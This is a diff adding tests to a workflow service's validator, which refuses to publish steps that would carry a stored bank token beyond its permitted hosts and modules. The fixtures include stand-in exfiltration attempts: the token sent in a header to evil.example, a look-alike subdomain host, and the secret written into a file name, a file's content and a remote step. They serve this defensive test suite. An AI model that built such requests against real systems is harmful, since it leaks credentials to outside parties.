@@ -207,3 +207,130 @@ def test_a_text_that_is_no_definition_is_refused_whole(
     assert answer.status_code == status, answer.content
     assert answer["Content-Type"] == "application/problem+json"
     assert Workflow.objects.count() == 0
+
+
+def charging(url: str, **more: Any) -> dict[str, Any]:
+    step = {"id": "pay", "use": "http.request", "with": {"url": url}, "credential": "bank"}
+    return {"schema": "valkyr/1", "name": "charging", "tasks": [step | more]}
+
+
+def keep(admin: APIClient, **more: Any) -> str:
+    given = {"name": "bank", "type": "bearer", "fields": {"token": "canary-22"}} | more
+    answer = admin.post("/v1/Credential", given, format="json")
+    assert answer.status_code == 201, answer.content
+    return f"/v1/Credential/{answer.json()['id']}"
+
+
+HEADER = {"headers": {"x-key": "{{ secrets.bank.token }}"}}
+NAMED = {"url": "https://api.example.com/", "saveTo": "{{ secrets.bank.token }}.txt"}
+EVIL = {"url": "https://evil.example/", **HEADER}
+
+
+@pytest.mark.parametrize(
+    ("definition", "path"),
+    [
+        (charging("https://evil.example/{{ input.a }}"), "tasks[0].with.url"),
+        (charging("https://api.example.com.evil.example/"), "tasks[0].with.url"),
+        (charging("https://api.example.com:8443/"), "tasks[0].with.url"),
+        (
+            charging("", credential=None, **{"with": NAMED}),
+            "tasks[0].with.saveTo",
+        ),
+        (
+            charging("https://evil.example/", credential=None, **{"with": EVIL}),
+            "tasks[0].with.url",
+        ),
+        (charging("", use="graphql.query", **{"with": {"url": "{{ input.u }}", "query": "{a}"}}),
+         "tasks[0].credential"),
+        (
+            charging(
+                "",
+                use="file.write",
+                credential=None,
+                **{"with": {"path": "a", "content": "{{ secrets.bank.token }}"}},
+            ),
+            "tasks[0].with.content",
+        ),
+        (charging("https://api.example.com/", queue="remote", use="remote.step", credential=None,
+                  **{"with": {"handler": "x", "key": "{{ secrets.bank.token }}"}}),
+         "tasks[0].with.key"),
+    ],
+)  # fmt: skip
+def test_a_step_outside_of_a_credentials_boundary_is_not_published(
+    author: APIClient, admin: APIClient, definition: dict[str, Any], path: str
+) -> None:
+    hosts = ["api.example.com:443"]
+    keep(admin, hosts=hosts, modules=["http.*", "file.*", "remote.*"])
+    [step] = definition["tasks"]
+    if step.get("credential", "") is None:
+        del step["credential"]
+    workflow = draft(author, definition)
+
+    validated = author.post(f"{workflow}/validate").json()
+    refused = author.post(f"{workflow}/publish")
+
+    assert validated["valid"] is False
+    assert (path, "credential_refused") in [(p["path"], p["code"]) for p in validated["problems"]]
+    assert refused.status_code == 422
+    assert refused.json()["errors"] == validated["problems"]
+
+
+@pytest.mark.parametrize(
+    "definition",
+    [
+        charging("https://api.example.com/{{ input.a }}"),
+        charging("https://API.example.com"),
+        charging("{{ input.url }}"),
+        charging("https://{{ input.host }}/"),
+        charging("", **{"with": {"url": "https://api.example.com/", **HEADER}}),
+        charging("https://other.example/", credential="unheard_of"),
+    ],
+)
+def test_a_step_that_fits_or_is_known_only_when_it_runs_is_published(
+    author: APIClient, admin: APIClient, definition: dict[str, Any]
+) -> None:
+    keep(admin, hosts=["api.example.com"])
+
+    answer = author.post(f"{draft(author, definition)}/publish")
+
+    assert answer.status_code == 201, answer.content
+
+
+def test_a_credential_of_other_workflows_is_refused(author: APIClient, admin: APIClient) -> None:
+    mine = draft(author, charging("{{ input.url }}"))
+    theirs = author.post("/v1/Workflow", {"name": "o", "definition": GREETING}, format="json")
+    kept = keep(admin, hosts=["api.example.com"], workflows=[theirs.json()["id"]])
+
+    refused = author.post(f"{mine}/publish")
+    mine_too = [theirs.json()["id"], mine.rpartition("/")[2]]
+    admin.patch(kept, {"workflows": mine_too}, format="json")
+    allowed = author.post(f"{mine}/publish")
+
+    assert refused.status_code == 422
+    assert "is not for this workflow" in refused.json()["errors"][0]["message"]
+    assert allowed.status_code == 201
+
+
+def test_a_credential_that_does_not_exist_is_a_warning(author: APIClient) -> None:
+    workflow = draft(
+        author,
+        charging(
+            "https://api.example.com/",
+            **{
+                "with": {
+                    "url": "https://api.example.com/",
+                    "headers": {"x": "{{ secrets.nobody }}"},
+                }
+            },
+        ),
+    )
+
+    validated = author.post(f"{workflow}/validate").json()
+    published = author.post(f"{workflow}/publish").json()
+
+    assert validated["valid"] is True
+    assert [(w["path"], w["code"]) for w in published["warnings"]] == [
+        ("tasks[0].credential", "unknown_credential"),
+        ("tasks[0].with.headers.x", "unknown_credential"),
+    ]
+    assert validated["warnings"] == published["warnings"]
